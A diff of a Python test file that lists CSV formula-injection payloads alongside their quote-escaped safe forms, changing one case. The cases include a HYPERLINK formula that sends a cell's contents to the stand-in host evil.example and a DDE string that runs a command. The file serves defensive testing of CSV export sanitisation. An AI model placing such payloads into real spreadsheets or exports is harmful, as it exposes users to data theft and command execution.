@@ -12,7 +12,7 @@ from tests.factories import make_chain, post_events
 
 # (host-controlled value, what a spreadsheet-safe CSV cell holds)
 CELLS = [
-    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),  # noqa: E501
+    ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
     ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),   # DDE
     ("@SUM(1+1)", "'@SUM(1+1)"),
     ("+1+1", "'+1+1"),
